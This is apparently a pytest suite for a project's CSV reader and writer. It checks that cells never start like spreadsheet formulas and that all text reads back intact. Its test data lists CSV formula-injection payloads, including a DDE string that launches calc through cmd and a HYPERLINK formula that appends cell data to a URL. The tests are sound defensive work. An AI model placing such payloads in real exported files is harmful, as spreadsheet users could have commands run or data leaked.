"""CSV files: nothing that a spreadsheet would run, and every text comes back as it was."""

import csv
import random
import re
from pathlib import Path

import pytest

import project
from project.core.errors import InputError
from project.storage.csv_file import read_csv, write_csv

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://example.org?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    '"=1+1"',
    "＝1+1",
    "photo;=1+1",
    'photo;"=1+1',
    "photo\t@SUM(A1)",
    "line\n=1+1",
)


def cells_seen(path: Path, delimiter: str) -> list[str]:
    """Return the cells that a spreadsheet sees which divides at a character."""
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for line in csv.reader(file, delimiter=delimiter) for cell in line]


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_spreadsheet_finds_a_formula(tmp_path, text, delimiter):
    path = tmp_path / "table.csv"
    write_csv(path, ["name", "value"], [[text, 1.0], ["x", text]])
    for cell in cells_seen(path, delimiter):
        assert cell.lstrip(' "\ufeff')[:1] not in tuple("=+-@＝＋－＠\t\r"), cell


def test_numbers_stay_numbers(tmp_path):
    write_csv(tmp_path / "t.csv", ["a", "b"], [[-3.5, "-3.5"], [-7, "+1e-05"], [None, "-.5"]])
    assert (tmp_path / "t.csv").read_text() == "a,b\n-3.5,-3.5\n-7,+1e-05\n,-.5\n"


@pytest.mark.parametrize("text", FORMULAS)
def test_what_would_be_a_formula_is_read_back_as_it_was(tmp_path, text):
    write_csv(tmp_path / "t.csv", [text, "b"], [[text, "'" + text], ["''" + text, text * 2]])
    (first, second) = read_csv(tmp_path / "t.csv", ["b"], dict)
    assert first == {text: text, "b": "'" + text}
    assert second == {text: "''" + text, "b": text * 2}


def test_every_text_is_read_back_as_it_was(tmp_path):
    draw = random.Random(0)
    letters = "''=+-@＝;,\t\r\n \"\x00\ufeffa1é😀\u202e"
    texts = ["".join(draw.choices(letters, k=draw.randrange(9))) for _ in range(20_000)]
    write_csv(tmp_path / "t.csv", ["text", "last"], [[text, "."] for text in texts])
    assert [row["text"] for row in read_csv(tmp_path / "t.csv", ["text"], dict)] == texts


def test_tables_without_any_mark_are_read_too(tmp_path):
    (tmp_path / "old.csv").write_text("name,value\n=1+1,2\n'quoted',3\n")
    names = [row["name"] for row in read_csv(tmp_path / "old.csv", ["name"], dict)]
    assert names == ["=1+1", "'quoted'"]


def test_a_name_that_is_no_unicode_is_written_all_the_same(tmp_path):
    write_csv(tmp_path / "t.csv", ["name"], [["a\udcff.jpg"]])
    assert read_csv(tmp_path / "t.csv", ["name"], dict) == [{"name": "a\\udcff.jpg"}]


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (b"", "its first line has no name"),
        (b"other\nx\n", "its first line has no name"),
        (b"name,value\nx,1\ny\n", "line 3 has 1 cells, not 2"),
        (b"name,value\nx,1,2\n", "line 2 has 3 cells, not 2"),
        (b"name,value\nx,1\ny,one\n", "line 3 says: could not convert string to float: 'one'"),
        (b"\xff\xfen\x00", "codec can't decode"),
        (b'name,value\n"x,1\n', "unexpected end of data"),
    ],
)
def test_a_damaged_table_is_told_in_one_line(tmp_path, content, told):
    path = tmp_path / "table.csv"
    path.write_bytes(content)
    with pytest.raises(InputError, match=told) as error:
        read_csv(path, ["name", "value"], lambda line: float(line["value"]))
    assert str(path) in str(error.value)
    assert "\n" not in str(error.value)


def test_no_other_file_of_the_package_writes_tables():
    root = Path(project.__file__).parent
    with_csv = re.compile(
        r"^\s*(import csv|from csv|import pyarrow\.csv|.*\.to_csv\()", re.MULTILINE
    )
    found = {
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if with_csv.search(path.read_text(encoding="utf-8"))
    }
    assert found == {"storage/csv_file.py", "data/lists.py"}  # the other reads tables of users
